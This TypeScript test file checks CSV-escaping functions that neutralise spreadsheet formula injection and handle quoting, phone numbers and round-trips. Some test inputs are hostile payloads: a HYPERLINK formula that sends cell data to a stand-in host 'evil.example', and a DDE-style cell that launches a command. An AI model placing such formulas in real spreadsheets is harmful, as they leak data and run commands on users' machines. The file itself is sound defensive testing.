import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { csvLine, escapeCsvCell, quoteCsvCell } from './csv-escape.js';

describe('escapeCsvCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
    ['+1+1', "'+1+1"],
    ['-2', '-2'],
    ['+1.5', '+1.5'],
    ['-.5', '-.5'],
    ['-2-2', "'-2-2"],
    ['-1e5', "'-1e5"],
    ['@x', "'@x"],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\tabc', "'\tabc"],
    ['\rabc', "'\rabc"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    // E.164 phone numbers export as they are: a spreadsheet reads them as values, never as formulas.
    ['+4930123456', '+4930123456'],
    ['+4915112345678', '+4915112345678'],
    ['+4915112345678+1', "'+4915112345678+1"],
    ['+0123456', '+0123456'], // not E.164, but a plain number
    ['+1234567890123456', '+1234567890123456'], // too long for E.164, but a plain number
    ['+49 151 1234', "'+49 151 1234"],
    ['\t+4915112345678', "'\t+4915112345678"],
    ['-', "'-"],
    ['+', "'+"],
    ['Anna', 'Anna'],
    ['a=b', 'a=b'],
    [' =1+1', ' =1+1'],
    ['', ''],
    ['Müller', 'Müller'],
  ])('%j → %j', (input, expected) => {
    expect(escapeCsvCell(input)).toBe(expected);
  });

  it.each([
    [null, ''],
    [undefined, ''],
    [131026, '131026'],
    [-2, '-2'],
    [-2.5, '-2.5'],
    [12n, '12'],
  ])('non-string %p → %j', (input, expected) => {
    expect(escapeCsvCell(input)).toBe(expected);
  });

  it.each([
    ['comma, inside'],
    ['a "quoted" word'],
    ['two\nlines'],
    ['=1+1, "x"\nnext'],
  ])('survives CSV quoting and parsing: %j', (value) => {
    const line = stringify([[escapeCsvCell(value), 'next']]);
    const [row] = parse(line) as string[][];
    expect(row).toEqual([escapeCsvCell(value), 'next']);
  });
});

describe('quoteCsvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rhere', '"cr\rhere"'],
    ["'=1+1", "'=1+1"],
  ])('%j → %j', (input, expected) => {
    expect(quoteCsvCell(input)).toBe(expected);
  });
});

describe('csvLine', () => {
  const rows: Array<Array<string | number | null>> = [
    ['+4915112345678', 'failed', null, 131026, 'Message undeliverable', '2026-05-01T10:00:00.000Z'],
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2-2', '@x', '\tTab', '\rCR'],
    ['Zoë, "the boss"', 'Line\nbreak', '', null, 'a""b', ',,,'],
    [' =not a formula', 'x=y', '1-2', 'mail@example.com', '—', '😀'],
  ];

  it.each(rows)('round-trips through csv-parse, escaped: %j', (...row) => {
    const line = csvLine(row);
    expect(line.endsWith('\n')).toBe(true);
    const [parsed] = parse(line) as string[][];
    expect(parsed).toEqual(row.map((cell) => escapeCsvCell(cell)));
  });

  it.each(rows)('writes what csv-stringify writes for the escaped cells: %j', (...row) => {
    const escaped = row.map((cell) => escapeCsvCell(cell));
    expect(csvLine(row)).toBe(stringify([escaped], { eof: true }));
  });

  it('a header is a line like any other', () => {
    expect(csvLine(['phone', 'status'])).toBe('phone,status\n');
  });
});
